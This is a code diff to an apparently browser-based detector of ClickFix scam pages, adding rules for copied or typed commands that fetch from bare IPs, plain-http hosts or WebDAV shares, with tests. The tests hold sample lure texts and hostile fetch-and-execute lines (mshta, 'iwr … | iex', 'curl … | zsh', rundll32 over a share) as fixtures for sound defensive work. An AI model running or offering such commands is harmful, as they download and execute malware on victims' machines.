@@ -42,7 +42,7 @@ const CLAIM_REACH: usize = 90;
 /// Words about the attack (distinct, weighted) that make a page a write-up about it.
 const ABOUT_ATTACK: f32 = 2.0;
 /// Candidate lines read for a command a page shows to be typed by hand.
-const TYPED_LINES: usize = 8;
+const TYPED_LINES: usize = 12;
 /// Bytes of page text read before and after a command shown to be typed by hand.
 const TYPED_BEFORE: usize = 3000;
 const TYPED_AFTER: usize = 1500;
@@ -214,6 +214,49 @@ impl Command {
             && self.https_sites.iter().all(|s| s == page_site)
     }
 
+    /// Fetches from where no installer is published: 2 for a public IP (any scheme) or a share
+    /// on one or over WebDAV, 1 for plain `http://` / `ftp://` from another site than the
+    /// page's, 0 otherwise. A private, loopback or intranet address is the person's own network.
+    pub fn lure_fetch(&self, page_site: &str) -> u8 {
+        // A WebDAV share on the page's own site is how an IT page maps its drive.
+        let unc = self
+            .flat
+            .find("\\\\")
+            .map_or("", |i| share_host(&self.flat[i..]));
+        let dav = unc.contains('@') || has(&self.flat, "davwwwroot");
+        let elsewhere = !same_site(unc.split('@').next().unwrap_or(""), page_site);
+        if unc_reaches_out(&self.flat) && (dav && elsewhere || ip_host(unc)) {
+            return 2;
+        }
+        if self.shapes.contains(&Shape::MshtaUrl) && public_ip_arg(&tokens(&self.flat)) {
+            return 2;
+        }
+        let mut level = 0;
+        for t in tokens(&self.flat) {
+            let Some(i) = t.find("://") else { continue };
+            let host = host_of(t);
+            if public_host(&host) {
+                if ip_host(&host) {
+                    return 2;
+                }
+                if !t[..i].ends_with('s') && !same_site(&host, page_site) {
+                    level = 1;
+                }
+            }
+        }
+        level
+    }
+
+    /// Hides what it runs: an encoded or hidden PowerShell, base64 decoded into a shell.
+    fn hides_script(&self) -> bool {
+        self.shapes.iter().any(|s| {
+            matches!(
+                s,
+                Shape::PowerShellEncoded | Shape::PowerShellHidden | Shape::Base64Shell
+            )
+        })
+    }
+
     /// Installs a package fetched from elsewhere (`msiexec /i https://…`): a program the person
     /// is never told about unless the page says what it installs. Showing the command names
     /// nothing, so only install words (`install_docs`) excuse it, never a reference example.
@@ -280,6 +323,9 @@ pub struct ClickFix {
     pub pretext: Option<String>,
     /// The page shows the command to be typed by hand; nothing was copied.
     pub typed: bool,
+    /// The page copied a command that fetches from where no installer publishes (or hides its
+    /// script) and does not show it.
+    pub unseen: bool,
 }
 
 /// The clipboard text as the recogniser reads it: lowercase, escapes and quotes that only hide
@@ -385,14 +431,6 @@ fn has_url(flat: &str) -> bool {
 /// A share on a single-label or `.local`-style host (`\\corp\netlogon`) is on the
 /// organisation's own network: no web page's author can put a payload there.
 fn unc_reaches_out(flat: &str) -> bool {
-    const INTRANET: &[&str] = &[
-        ".local",
-        ".lan",
-        ".corp",
-        ".internal",
-        ".intranet",
-        ".home.arpa",
-    ];
     flat.match_indices("\\\\").any(|(i, _)| {
         let mut rest = &flat[i + 2..];
         // `\\?\UNC\host\…` and `\\.\UNC\host\…` are the same share as `\\host\…`.
@@ -404,19 +442,32 @@ fn unc_reaches_out(flat: &str) -> bool {
                 rest = &rest[prefix.len()..];
             }
         }
-        let host = rest.split(['\\', '/', ' ']).next().unwrap_or("");
-        // An IP may be written as one number (`\\3405803785`, `\\0xcb007109`): no dot.
-        let hex = host.get(..2).is_some_and(|p| p.eq_ignore_ascii_case("0x"))
-            && host.len() > 2
-            && host[2..].bytes().all(|b| b.is_ascii_hexdigit());
-        // No host is no share; a private or loopback address is the local network's.
-        !host.is_empty()
-            && !private_ip(host)
-            && (host.contains('@')
-                || hex
-                || host.bytes().all(|b| b.is_ascii_digit())
-                || host.contains('.') && !INTRANET.iter().any(|s| host.ends_with(s)))
+        public_host(rest.split(['\\', '/', ' ']).next().unwrap_or(""))
     })
+}
+
+/// A host the internet can serve (of a share or a URL): a dotted name outside the intranet's
+/// suffixes, a public IP (also one decimal or `0x` number), WebDAV's `host@SSL`.
+fn public_host(host: &str) -> bool {
+    const INTRANET: &[&str] = &[
+        ".local",
+        ".lan",
+        ".corp",
+        ".internal",
+        ".intranet",
+        ".home.arpa",
+    ];
+    // An IP may be written as one number (`\\3405803785`, `\\0xcb007109`): no dot.
+    let hex = host.get(..2).is_some_and(|p| p.eq_ignore_ascii_case("0x"))
+        && host.len() > 2
+        && host[2..].bytes().all(|b| b.is_ascii_hexdigit());
+    // No host is no share; a private or loopback address is the local network's.
+    !host.is_empty()
+        && !private_ip(host)
+        && (host.contains('@')
+            || hex
+            || host.bytes().all(|b| b.is_ascii_digit())
+            || host.contains('.') && !INTRANET.iter().any(|s| host.ends_with(s)))
 }
 
 /// The host of a UNC path (`\\host\share` → `host`, `\\host@SSL\…` → `host@ssl`).
@@ -607,7 +658,7 @@ fn shapes(flat: &str) -> Vec<Shape> {
     }
     if prog("mshta") {
         let inline = has(flat, "vbscript:") || has(flat, "javascript:");
-        out.push(if has_url(flat) || inline {
+        out.push(if has_url(flat) || inline || public_ip_arg(&toks) {
             Shape::MshtaUrl
         } else {
             Shape::Mshta
@@ -705,6 +756,25 @@ fn shapes(flat: &str) -> Vec<Shape> {
         }
     }
     ordered
+}
+
+/// An argument that is a public IP with no scheme (`mshta 198.51.100.3/v`): mshta fetches it.
+fn public_ip_arg(toks: &[&str]) -> bool {
+    toks.iter().any(|t| {
+        let host = t.split('/').next().unwrap_or("");
+        host.contains('.')
+            && host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
+            && public_host(host)
+    })
+}
+
+/// `host` is the registrable domain `site` or under it (a suffix test: `registrable` again would
+/// cost Wasm).
+fn same_site(host: &str, site: &str) -> bool {
+    !site.is_empty()
+        && host
+            .strip_suffix(site)
+            .is_some_and(|h| h.is_empty() || h.ends_with('.'))
 }
 
 /// Extensions Windows runs when a path to them is opened.
@@ -965,6 +1035,8 @@ pub struct PageHits {
     flat: String,
     /// The page's registrable domain, when known.
     site: String,
+    /// The page's text was cut at the snapshot's bound: what it shows past it is unknown.
+    cut: bool,
 }
 
 impl PageHits {
@@ -1017,6 +1089,7 @@ impl PageHits {
             hits,
             flat,
             site: String::new(),
+            cut: false,
         }
     }
 
@@ -1042,6 +1115,17 @@ impl PageHits {
             return path.len() > 2 && has(&self.flat, path);
         }
         command.flat.len() >= 16 && has(&self.flat, &command.flat)
+    }
+
+    /// [`shows`], or the page shows how the copied text starts (32 bytes): a page may add a
+    /// line to what a person copies from it ("Read more at …").
+    fn shows_head(&self, command: &Command) -> bool {
+        let f = &command.flat;
+        let mut n = f.len().min(32);
+        while !f.is_char_boundary(n) {
+            n -= 1;
+        }
+        self.shows(command) || n >= 16 && has(&self.flat, &f[..n])
     }
 
     /// The page names `msiexec` in its own words, beside the commands it shows ("msiexec command
@@ -1161,6 +1245,7 @@ pub fn apply(found: ClickFix, verdict: &mut Verdict) {
         instructions,
         pretext,
         typed,
+        unseen,
     } = found;
     let mut add = |id, weight: f32, text: String, sentence: &'static str| {
         verdict.reasons.push(Reason {
@@ -1205,6 +1290,14 @@ pub fn apply(found: ClickFix, verdict: &mut Verdict) {
             CLICKFIX_PRETEXT,
             p,
             english!("The page pretends this is a check that you are human."),
+        );
+    }
+    if unseen {
+        add(
+            ReasonId::UnseenCommand,
+            CLICKFIX_HIDDEN_COMMAND,
+            String::new(),
+            english!("The page copied a command it does not show you."),
         );
     }
     if command.padded {
@@ -1343,10 +1436,11 @@ pub fn judge(snap: &Snapshot) -> Option<ClickFix> {
 /// or Terminal steps and a story (a human check, a fix, an update), on a page that does not
 /// talk about scams.
 fn typed(snap: &Snapshot, text: &str) -> Option<ClickFix> {
+    // (Any site's plain http picks a line here; the page's own is told apart when judged.)
     let (line, command) = typed_lines(text)
         .into_iter()
         .filter_map(|l| Some((l, recognise(l)?)))
-        .find(|(_, c)| c.strong())?;
+        .find(|(_, c)| c.strong() || c.lure_fetch("") > 0)?;
     // The steps and the story stand around the command: the page is read from 3 KB before it to
     // 1.5 KB after it (with its title), not whole a second time (a 64 KB docs page showing an
     // `iex` doubled the engine's time).
@@ -1373,7 +1467,10 @@ fn page_of(snap: &Snapshot, text: &str, alt_texts: &[String], dialogs: &[String]
     let parts = [snap.title.as_str(), text]
         .into_iter()
         .chain(alt_texts.iter().chain(dialogs).map(String::as_str));
-    PageHits::new(parts).on(&snap.url)
+    let mut page = PageHits::new(parts).on(&snap.url);
+    // Within 1 KB of the bound: the content script stops at a node's edge.
+    page.cut = snap.text.len() + 1024 > crate::snapshot::MAX_TEXT_BYTES;
+    page
 }
 
 /// Lines of the page's text that may hold a command (a program name no prose uses starts a
@@ -1395,6 +1492,11 @@ fn typed_lines(text: &str) -> Vec<&str> {
         "iex",
         "irm",
         "iwr",
+        // Judged only when they fetch from where no installer publishes (a bare IP, plain http
+        // from another site, a share on the internet).
+        "cmd",
+        "curl",
+        "wget",
     ];
     let b = text.as_bytes();
     let mut out: Vec<&str> = Vec::new();
@@ -1545,27 +1647,55 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
                 && (s.strong() || *s == Shape::PipeToShell && hidden_story)
         });
     let pretext = page_pretext || command.comment_pretext;
-    if !(windows_run || mac_run || pretext || command.padded) {
+    let told = verify >= 1.0 || page.story().next().is_some();
+    let shell_named = page.weight(Cat::RunShell) >= 1.0;
+    // What a lure copies and no page shows: a command fetching from where no installer publishes
+    // (a bare IP, plain http from another site, a share on the internet) or hiding its script,
+    // put on the clipboard while the page shows something else or nothing (steps drawn in an
+    // image, "type cmd, right-click to paste" in a language without a word list). A Windows
+    // command fetching from a bare IP or another site's WebDAV share is enough alone; the rest needs
+    // a step, a check or a story around it. A page that shows what it copies (docs, a write-up's
+    // code block) is read as before.
+    let fetch = command.lure_fetch(&page.site);
+    // (A hidden or encoded script fetching only over https is not enough: a docs page's hidden
+    // tab copies `powershell -WindowStyle Hidden -Command "iwr https://…/install.ps1 | iex"`.
+    // A page cut at the snapshot's bound may show the command past it: review 25 M1.)
+    let unseen = !typed
+        && !page.cut
+        && (fetch > 0 || command.hides_script() && command.https_sites.is_empty())
+        && !page.shows_head(&command)
+        && !write_up
+        && (fetch > 1 && (command.strong() || command.windows_payload())
+            || told
+            || verify > 0.0
+            || run_dialog
+            || terminal
+            || shell_named);
+    // A command shown to be typed by hand that fetches so (`curl -s http://203.0.113.5/u | zsh`
+    // in Terminal, `cmd /c start \\203.0.113.7@80\v.bat` in the Run box) is judged as a
+    // strong one: no docs give it.
+    let typed_fetch = typed && fetch > 0 && (run_dialog || terminal);
+    if !(windows_run || mac_run || pretext || command.padded || unseen || typed_fetch) {
         return None;
     }
-    let told = verify >= 1.0 || page.story().next().is_some();
     // A command to type is on the page by design: a shell window named counts as a run step
     // for it only next to a human check (a tutorial names one above its fix as well).
-    let typed_run = run_dialog || terminal || verify >= 1.0 && page.weight(Cat::RunShell) >= 1.0;
+    let typed_run = run_dialog || terminal || verify >= 1.0 && shell_named;
     // Words about scams excuse it without a human check only: a kit's check "protects the site
     // from bots and phishing" too (a write-up quoting the check names the attack: `write_up`).
-    if typed && (!told || !typed_run || about >= 1.0 && verify < 1.0 || write_up) {
+    // A command from a bare IP or share tells its own story.
+    if typed && (!(told || fetch > 1) || !typed_run || about >= 1.0 && verify < 1.0 || write_up) {
         return None;
     }
     let mut instructions = Vec::new();
-    if windows_run {
+    if windows_run || unseen {
         instructions.extend(page.texts(Cat::RunDialog));
         instructions.extend(page.texts(Cat::RunShell));
     }
-    if mac_run {
+    if mac_run || unseen || typed_fetch {
         instructions.extend(page.texts(Cat::RunTerminal));
     }
-    if windows_run || mac_run || pretext {
+    if windows_run || mac_run || pretext || unseen || typed_fetch {
         instructions.extend(page.texts(Cat::PasteStep).into_iter().take(2));
     }
     let pretext = if page_pretext {
@@ -1580,6 +1710,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         instructions,
         pretext,
         typed,
+        unseen,
     })
 }
 
@@ -2241,7 +2372,12 @@ mod tests {
             "Use winget + R scripts to set up a PC. Press Ctrl + V and Enter.",
             "To win, press + R to reload. Press Ctrl + V and Enter.",
         ] {
-            assert!(!judged(clip, &format!("{story} {text}")), "{text}");
+            // (The page is ClickFix all the same: it copies a hidden download from a bare IP
+            // that it does not show, next to its story. What is tested is the run step.)
+            assert!(
+                page(&format!("{story} {text}")).weight(Cat::RunDialog) < 1.0,
+                "{text}"
+            );
         }
     }
 
@@ -3201,5 +3337,190 @@ mod tests {
         };
         let v = judge(&typed);
         assert_eq!((v.level, v.kind), (Level::Scam, Kind::Clickfix));
+    }
+
+    /// A snapshot of `text` on `url` whose page copied `clip` (nothing when empty).
+    fn snap_of(url: &str, title: &str, text: &str, clip: &str) -> Snapshot {
+        Snapshot {
+            url: url.into(),
+            title: title.into(),
+            text: text.into(),
+            clipboard: crate::snapshot::Clipboard {
+                text: clip.into(),
+                via: if clip.is_empty() { "" } else { "writeText" }.into(),
+            },
+            ..Default::default()
+        }
+    }
+
+    fn reasons(s: &Snapshot) -> Option<Vec<ReasonId>> {
+        let v = crate::engine::analyse(s, &crate::verdict::Options::default());
+        (v.kind == Kind::Clickfix).then(|| v.reasons.iter().map(|r| r.id).collect())
+    }
+
+    #[test]
+    fn a_command_copied_and_not_shown_that_fetches_from_a_bare_ip_needs_no_words() {
+        // The steps drawn in an image with no alt text, the check in a language without a word
+        // list: the copy itself is the lure (eval24: steps only in a PNG).
+        let clip = "mshta http://198.51.100.23/v.hta";
+        let text = "تحقق من أنك إنسان\nأنا لست روبوتًا\nاتبع الخطوات في الصورة.";
+        let r = reasons(&snap_of("https://tahaqquq.example/", "تحقق", text, clip)).unwrap();
+        assert!(r.contains(&ReasonId::UnseenCommand), "{r:?}");
+        // A WebDAV share on another site, or a hidden-window download from a bare IP: the same.
+        for clip in [
+            r"rundll32 \\cdn-docs.example@SSL\DavWWWRoot\v\check.dll,Run",
+            "powershell -w h -c \"iwr http://203.0.113.61/k|iex\"",
+            "curl -s http://198.51.100.9/z.bat -o %TEMP%\\z.bat && %TEMP%\\z.bat",
+        ] {
+            assert!(
+                reasons(&snap_of("https://x.example/", "", text, clip)).is_some(),
+                "{clip}"
+            );
+        }
+        // Shown on the page (a write-up's or an advisory's code block): not unseen.
+        let shown = format!("Example of a malicious command:\n{clip}");
+        assert_eq!(
+            reasons(&snap_of("https://x.example/", "", &shown, clip)),
+            None
+        );
+        // From an https host name, a plain http address, a private address, or the page's own
+        // WebDAV share, with nothing around it: a copy as any other (silent without steps).
+        for (url, clip) in [
+            (
+                "https://x.example/",
+                "mshta https://apps.example.com/inventory.hta",
+            ),
+            (
+                "https://x.example/",
+                "powershell -c \"iwr http://dl.example.org/t.ps1 | iex\"",
+            ),
+            ("https://x.example/", "mshta http://10.1.2.3/inventory.hta"),
+            (
+                "https://x.example/",
+                "mshta http://localhost:8080/inventory.hta",
+            ),
+            (
+                "https://intranet.uni.example/",
+                r"rundll32 \\files.uni.example@SSL\DavWWWRoot\t\x.dll,Run",
+            ),
+        ] {
+            assert_eq!(reasons(&snap_of(url, "", "Tools", clip)), None, "{clip}");
+        }
+    }
+
+    #[test]
+    fn a_copied_command_not_shown_counts_with_any_step_check_or_story() {
+        let url = "https://mirror-verify.example/";
+        // Linux: Ctrl+Alt+T and Ctrl+Shift+V, no Win+R, a `wget | sh` (no strong shape).
+        let clip = "wget -qO- http://198.51.100.4/v | sh";
+        let steps = "Before the download: press Ctrl+Alt+T, paste with Ctrl+Shift+V, Enter.";
+        let r = reasons(&snap_of(url, "Mirror", steps, clip)).unwrap();
+        assert!(r.contains(&ReasonId::UnseenCommand), "{r:?}");
+        // Steps with no Run box in a language with few words: the shell named ("ketik cmd").
+        let clip = r"cmd /c start \\198.51.100.7@80\perbaiki.bat";
+        let steps = "Tekan tombol Windows, ketik cmd, klik kanan untuk menempel.";
+        assert!(reasons(&snap_of(url, "Zoom", steps, clip)).is_some());
+        // A story and the Start menu ("type PowerShell"), plain http from another site.
+        let clip = "powershell -c \"iwr http://fonts-cdn.example.net/f.ps1 | iex\"";
+        let story = "This document cannot be displayed. Click Start, type PowerShell, \
+                     right-click to paste.";
+        assert!(reasons(&snap_of(url, "Viewer", story, clip)).is_some());
+        // Review 25 M1: a long docs page whose install command lies past the text bound, and a
+        // docs page's hidden tab copying a hidden-window install from its own https site.
+        let long = format!(
+            "Open Terminal and paste. {}\ncurl -fsSL http://get.oldtool.example/install.sh | sh",
+            "option --flag does a thing. ".repeat(2400)
+        );
+        let clip = "curl -fsSL http://get.oldtool.example/install.sh | sh";
+        let snap = snap_of("https://docs.oldtool-project.example/", "", &long, clip).bounded();
+        assert_eq!(reasons(&snap), None);
+        let clip = "powershell -NoProfile -WindowStyle Hidden -Command \
+                    \"iwr https://cloud-docs.example/install.ps1 | iex\"";
+        let text = "Install on macOS: open Terminal and paste brew install cloud-cli. Something \
+                    went wrong? See Troubleshooting.";
+        assert_eq!(
+            reasons(&snap_of("https://cloud-docs.example/", "", text, clip)),
+            None
+        );
+        // Nothing around a `curl | sh` from a bare IP: no verdict.
+        let clip = "curl -s http://198.51.100.4/v | sh";
+        assert_eq!(reasons(&snap_of(url, "Mirror", "Downloads", clip)), None);
+        // Honest twins: an installer the page shows (a copied line with an attribution added),
+        // its own http installer, a dashboard's join command on a private address.
+        for (url, text, clip) in [
+            (
+                "https://forum.example-linux.org/t/1",
+                "Fixed it with the vendor's script, open a terminal and paste:\n\
+                 curl http://198.51.100.77/setup.sh | sh",
+                "curl http://198.51.100.77/setup.sh | sh\n\nRead more: https://forum.example-linux.org/t/1",
+            ),
+            (
+                "http://install.perlish.example.org/",
+                "Open Terminal and paste. Out of date? Run it again.",
+                "curl -L http://install.perlish.example.org | bash",
+            ),
+            (
+                "https://cluster.example-admin.net/nodes",
+                "Add a node: paste the command in a terminal on the new node.",
+                "curl -sfL http://10.0.4.12:6443/join | sh -s - --token abc",
+            ),
+        ] {
+            assert_eq!(reasons(&snap_of(url, "", text, clip)), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn a_command_typed_by_hand_that_fetches_from_a_bare_ip_or_share() {
+        // macOS, nothing copied: Terminal and a `curl | zsh` from a bare IP under a story.
+        let text = "Votre version de Safari n'est plus à jour. Pour installer la mise à jour \
+                    de sécurité, ouvrez le Terminal et tapez la commande suivante :\n\
+                    curl -s http://198.51.100.2/upd | zsh\nPuis appuyez sur Entrée.";
+        let r = reasons(&snap_of("https://maj-safari.example/", "Safari", text, "")).unwrap();
+        assert!(r.contains(&ReasonId::TypedCommand), "{r:?}");
+        // mshta given a bare IP with no scheme fetches from it (eval23's pt-PT page, invented).
+        let text = "Prima Win+R e escreva:\nmshta 198.51.100.3\ne prima Enter.";
+        let r = reasons(&snap_of("https://verificar.example/", "", text, "")).unwrap();
+        assert!(r.contains(&ReasonId::TypedCommand), "{r:?}");
+        // Win+R and a .bat over WebDAV on a bare IP: the share tells its own story.
+        let text =
+            "Accesso\npremi Win+R, digita:\ncmd /c start \\\\198.51.100.7@80\\verifica.bat\n\
+                    e premi Invio";
+        let r = reasons(&snap_of("https://verifica.example/", "Accesso", text, "")).unwrap();
+        assert!(r.contains(&ReasonId::TypedCommand), "{r:?}");
+        // Honest twins: an IT how-to (Terminal, its own https installer), a help page teaching
+        // Win+R with an intranet share, API docs' curl lines, another site's http installer shown
+        // with no story, a project's own http installer under "out of date".
+        for (url, text) in [
+            (
+                "https://help.example-corp.com/mac",
+                "Your Mac is out of date? Open Terminal and type the following command:\n\
+                 sudo softwareupdate -i -a\nThen: curl -fsSL https://vpn.example-corp.com/i.sh | sudo bash",
+            ),
+            (
+                "https://support.example-it.edu/dns",
+                "Press Win+R, type cmd and press Enter, then type:\nipconfig /flushdns\n\
+                 To map the drive type: cmd /c net use Z: \\\\files.example-it.edu\\home",
+            ),
+            (
+                "https://docs.example-api.io/",
+                "Open a terminal and type:\ncurl http://localhost:8080/health\n\
+                 curl http://203.0.113.50/status",
+            ),
+            (
+                "https://support.example-isp.test/",
+                "No internet? Press Win+R and type:\ncmd /k ping 198.51.100.1\n\
+                 Local tools: mshta C:\\Tools\\inventory.hta or mshta 10.0.0.5",
+            ),
+            (
+                "https://blog.example.net/tools",
+                "Open Terminal and type the following:\ncurl -L http://get.tool.example.org | sh",
+            ),
+            (
+                "http://perlish.example.org/",
+                "Out of date? Open Terminal and type:\ncurl -L http://install.perlish.example.org | bash",
+            ),
+        ] {
+            assert_eq!(reasons(&snap_of(url, "", text, "")), None, "{text}");
+        }
     }
 }
